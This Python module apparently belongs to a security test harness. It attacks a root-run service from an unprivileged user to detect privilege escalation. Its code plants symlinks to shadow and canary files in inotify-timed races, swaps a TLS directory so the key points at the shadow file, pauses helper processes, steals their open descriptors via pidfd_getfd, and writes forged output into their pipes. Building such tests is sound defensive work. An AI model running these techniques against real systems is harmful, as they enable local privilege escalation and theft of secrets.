"""What is done at the very moment at which root does something, and to what root starts as this user."""

import itertools
import os
import random
import re
import select
import signal
import stat
import sys
import time
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path

from attacker.traps import (
    CANARIES,
    CANARY,
    DATA,
    ETC,
    FORGED,
    LIBC,
    LOGS,
    RUN,
    SHADOW,
    TLS,
    exchange,
    note,
    pause,
    put_back,
    read,
    remove,
)

IN_CREATE, IN_MOVED_TO, IN_ATTRIB, IN_NONBLOCK = 0x100, 0x80, 0x4, 0x800
PIDFD_OPEN, PIDFD_GETFD = 434, 438


def watch(places: tuple[Path, ...]) -> Iterator[None]:
    """For what root makes in directories of its own, and then gives away: links, before root opens files there."""
    notify = LIBC.inotify_init1(IN_NONBLOCK)
    watches = {
        LIBC.inotify_add_watch(notify, os.fsencode(place), IN_CREATE | IN_MOVED_TO): place for place in places
    }
    while True:
        if not select.select([notify], [], [], 0.02)[0]:
            yield
            continue
        events = os.read(notify, 65536)
        while events:
            length = int.from_bytes(events[12:16], sys.byteorder)
            name = events[16 : 16 + length].rstrip(b"\0")
            place = watches.get(int.from_bytes(events[:4], sys.byteorder, signed=True))
            events = events[16 + length :]
            if place and (b"noevict" in name or b"tmp." in name):
                _pounce(place / os.fsdecode(name))
        yield


def _pounce(path: Path) -> None:
    """As soon as it can be written to, which it may be for a moment only."""
    names = ("output", "s", "conf", "acl", "pid", "manifest", "appendonlydir")
    until = time.monotonic() + 0.5
    while time.monotonic() < until:
        with suppress(OSError):
            if path.is_dir():
                for name in names:
                    with suppress(FileExistsError):
                        (path / name).symlink_to(CANARY)
            else:
                with path.open("r+b") as opened:
                    read(opened.read(65536), path)
        if not os.path.lexists(path):
            return


def change_tls_between() -> Iterator[None]:
    """Once root has made its request or put a first file in place, and before it changes owners by name."""
    trap, notify = TLS.with_name(".swapped-tls"), LIBC.inotify_init1(IN_NONBLOCK)
    for number in itertools.count():
        LIBC.inotify_add_watch(notify, os.fsencode(ETC), IN_ATTRIB | IN_CREATE)
        LIBC.inotify_add_watch(notify, os.fsencode(TLS), IN_MOVED_TO)
        remove(trap)
        trap.mkdir(0o777)
        (trap / "server.key").symlink_to(SHADOW)
        seen = b""
        while not ((b"tls\0" in seen and not number % 2) or b"server.crt\0" in seen):
            if select.select([notify], [], [], 0.02)[0]:
                seen = os.read(notify, 65536)
            yield
        if b"server.crt\0" not in seen:
            pause(0.05, 0.1, 0.2)
        about = trap.lstat()
        if exchange(TLS, trap):
            until = time.monotonic() + 2
            try:
                while time.monotonic() < until:
                    yield
                    time.sleep(0.001)
            finally:
                put_back(TLS, trap, about)


def helpers() -> Iterator[None]:
    """Processes that root starts as this user: stopped, their output written to and held, their files taken."""
    known = {int(each) for each in os.listdir("/proc") if each.isdigit()}  # noqa: PTH208 - for speed
    held: list[int] = []
    try:
        while True:
            for pid in {int(each) for each in os.listdir("/proc") if each.isdigit()} - known:  # noqa: PTH208
                with suppress(OSError):
                    if (
                        Path(f"/proc/{pid}").stat().st_uid == os.getuid()
                        and not _mine(pid)
                        and not _is_servers(pid)
                    ):
                        held += _take(pid)
                        if random.random() < 0.5:  # noqa: S311
                            os.kill(pid, signal.SIGSTOP)
                    known.add(pid)
            time.sleep(0.001)
            yield
            if len(held) > 200:
                for number in held:
                    os.close(number)
                held.clear()
    finally:
        for pid in known:
            with suppress(OSError):
                if Path(f"/proc/{pid}").stat().st_uid == os.getuid():
                    os.kill(pid, signal.SIGCONT)


def _is_servers(pid: int) -> bool:
    """Whether it is the unit's server, or a child that this one made: who stops them has stopped the server."""
    parent = _parent(pid)
    return parent == 1 or (Path(f"/proc/{parent}").stat().st_uid == os.getuid() and _parent(parent) == 1)


def _parent(pid: int) -> int:
    return int(Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[1])


def _mine(pid: int) -> bool:
    return b"-m\0attacker\0" in Path(f"/proc/{pid}/cmdline").read_bytes()


def _take(pid: int) -> list[int]:
    """Whatever it has open: regular files that another owns and that can be written are a way to root."""
    taken = []
    handle = LIBC.syscall(PIDFD_OPEN, pid, 0)
    for name in os.listdir(f"/proc/{pid}/fd"):  # noqa: PTH208
        number = LIBC.syscall(PIDFD_GETFD, handle, int(name), 0)
        if number < 0:
            continue
        about, where = os.fstat(number), str(Path(f"/proc/self/fd/{number}").readlink())
        writable = bool(_flags(number) & os.O_ACCMODE)
        if stat.S_ISREG(about.st_mode) and about.st_uid != os.getuid():
            if writable and not HARMLESS.match(where):
                note(f"took root's file, open for writing, from a helper: {where!a}")
            with suppress(OSError):
                read(os.pread(number, 65536, 0), Path(where))
        if stat.S_ISFIFO(about.st_mode) and writable:
            os.set_blocking(number, False)
            with suppress(OSError):
                os.write(number, f"\n{FORGED}\n".encode())
            taken.append(number)
        else:
            os.close(number)
    os.close(handle)
    return taken


# What a helper prints, which root reads as that.
HARMLESS = re.compile(r"/run/noevict\.(output\.\w+|server\.\w+/output)( \(deleted\))?$")


def _flags(number: int) -> int:
    text = Path(f"/proc/self/fdinfo/{number}").read_text()
    return int(text.split("flags:")[1].split()[0], 8)


def reader() -> Iterator[None]:
    """What can be read that should not be: root's own files, and their content in any file of the server's."""
    while True:
        for path in (CANARY, SHADOW, CANARIES / "one"):
            with suppress(OSError):
                content = path.read_bytes()
                note(f"opened {path} ({len(content)} bytes)")
        for place in (ETC, ETC / "tls", DATA, DATA / "appendonlydir", LOGS, RUN, Path("/tmp"), Path("/run")):
            with suppress(OSError):
                for path in place.iterdir():
                    with suppress(OSError):
                        about = path.lstat()
                        if stat.S_ISREG(about.st_mode) and about.st_size < 1 << 20:
                            read(path.read_bytes(), path)
        time.sleep(0.02)
        yield
